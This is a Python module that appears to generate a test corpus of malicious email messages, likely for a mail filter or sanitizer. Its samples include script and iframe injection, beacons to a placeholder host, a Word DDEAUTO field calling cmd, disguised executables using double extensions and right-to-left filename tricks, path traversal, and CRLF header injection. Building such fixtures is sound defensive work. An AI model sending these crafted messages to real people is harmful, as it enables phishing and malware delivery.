"""Attacks in messages."""

import base64

from attack import HOST, docx, zipped
from attack_html import BODIES, JS, page
from attack_word import PNG, field, paragraph


def message(body: bytes = b"<p>x</p>", kind: str = "text/html", headers: str = "", raw: bytes | None = None) -> bytes:
    head = f"From: a@city.example\r\nTo: b@city.example\r\nSubject: =?utf-8?B?5rGQ6KaL5biC?=\r\nDate: Mon, 2 Mar 2026 09:00:00 +0900\r\nMIME-Version: 1.0\r\n{headers}"
    return raw if raw else f"{head}Content-Type: {kind}; charset=utf-8\r\n\r\n".encode() + body


def mixed(*parts: tuple[str, bytes], headers: str = "") -> bytes:
    body = (
        b"".join(
            b"--B\r\n" + head.encode() + b"\r\n\r\n" + data + b"\r\n"
            for head, data in [("Content-Type: text/plain; charset=utf-8", "回覧".encode()), *parts]
        )
        + b"--B--\r\n"
    )
    return (
        message(headers=headers).split(b"Content-Type:")[0]
        + b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        + body
    )


def attached(
    name: str, data: bytes, kind: str = "application/octet-stream", field: str | None = None
) -> tuple[str, bytes]:
    named = field or f'filename="{name}"'
    return (
        f"Content-Type: {kind}\r\nContent-Disposition: attachment; {named}\r\nContent-Transfer-Encoding: base64",
        base64.encodebytes(data),
    )


def mail():
    evil = docx(paragraph(field(f" DDEAUTO cmd {HOST}")))
    yield "html-script", message(f"<p>x</p><script>{JS}</script>".encode())
    yield "html-image", message(f"<img src=http://{HOST}/x.png>".encode())
    yield (
        "html-base64",
        message(
            base64.b64encode(f"<img src=http://{HOST}/x.png>".encode()), headers="Content-Transfer-Encoding: base64\r\n"
        ),
    )
    yield (
        "html-quoted",
        message(
            f"<img src=3D=68ttp://{HOST}/x.png>".encode(), headers="Content-Transfer-Encoding: quoted-printable\r\n"
        ),
    )
    yield "attachment-dde", mixed(attached("資料.docx".encode("ascii", "ignore").decode() or "a.docx", evil))
    yield "attachment-exe", mixed(attached("a.pdf.exe", b"MZ" + bytes(80)))
    yield "attachment-exe-hidden", mixed(attached("a.pdf", b"MZ" + bytes(80), "application/pdf"))
    yield "attachment-rlo", mixed(attached("", b"x", field="filename*=utf-8''a%E2%80%AEfdp.exe"))
    yield (
        "attachment-name-parts",
        mixed(attached("", b"x", field="filename*0*=utf-8''a.p; filename*1*=df.ex; filename*2*=e")),
    )
    yield (
        "attachment-two-names",
        mixed(
            (
                'Content-Type: application/pdf; name="a.exe"\r\nContent-Disposition: attachment; filename="a.pdf"\r\nContent-Transfer-Encoding: base64',
                base64.encodebytes(b"MZ" + bytes(80)),
            )
        ),
    )
    yield "attachment-path", mixed(attached("..\\\\..\\\\startup\\\\a.txt", b"x"))
    yield "attachment-lnk", mixed(attached("a.txt.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68)))
    yield "attachment-html", mixed(attached("a.html", page(BODIES["script"]), "text/html"))
    yield "attachment-zip", mixed(attached("a.zip", zipped([("b.zip", zipped([("c.docx", evil)]))]), "application/zip"))
    yield "attachment-uu", message(b"x\r\nbegin 644 a.exe\r\n#35J0\r\n`\r\nend\r\n", "text/plain")
    yield "partial", message(b"x", 'message/partial; id="a"; number=1; total=2')
    yield (
        "external-body",
        message(
            "Content-Type: text/plain\r\n\r\n".encode(),
            f'message/external-body; access-type=URL; URL="http://{HOST}/x"',
        ),
    )
    yield "nested", mixed(("Content-Type: message/rfc822", message(f"<script>{JS}</script>".encode())))
    yield (
        "type-twice",
        message(
            raw=b"From: a@city.example\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<script>"
            + JS.encode()
            + b"</script>"
        ),
    )
    yield (
        "boundary-twice",
        message(
            raw=b"From: a@city.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=A; boundary=B\r\n\r\n--A\r\n\r\nx\r\n--A--\r\n--B\r\nContent-Type: text/html\r\n\r\n<script>"
            + JS.encode()
            + b"</script>\r\n--B--\r\n"
        ),
    )
    yield (
        "calendar",
        mixed(
            (
                "Content-Type: text/calendar; method=REQUEST",
                f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:file://{HOST}/x\r\nATTACH:http://{HOST}/x.exe\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode(),
            )
        ),
    )
    yield "tnef", mixed(attached("winmail.dat", b"\x78\x9f\x3e\x22\x01\0" + HOST.encode(), "application/ms-tnef"))
    yield "smime", message(b"MIAGCSqGSIb3DQEHA6CA", 'application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"')
    yield (
        "headers",
        message(
            b"x",
            "text/plain",
            f"X-Originating-Url: http://{HOST}/\r\nDisposition-Notification-To: x@{HOST}\r\nList-Unsubscribe: <http://{HOST}/>\r\nReceived: from {HOST}\r\n",
        ),
    )
    yield (
        "header-injected",
        message(b"x", "text/plain", f"Reply-To: =?utf-8?Q?a=0D=0AX-Evil:_{HOST}?= <a@city.example>\r\n"),
    )
    yield "picture-behind", mixed(attached("a.png", PNG + HOST.encode(), "image/png"))
    yield (
        "alternative",
        message(
            raw=message().split(b"Content-Type:")[0]
            + b'Content-Type: multipart/alternative; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nx\r\n--B\r\nContent-Type: text/html\r\n\r\n<iframe src=http://'
            + HOST.encode()
            + b"></iframe>\r\n--B--\r\n"
        ),
    )
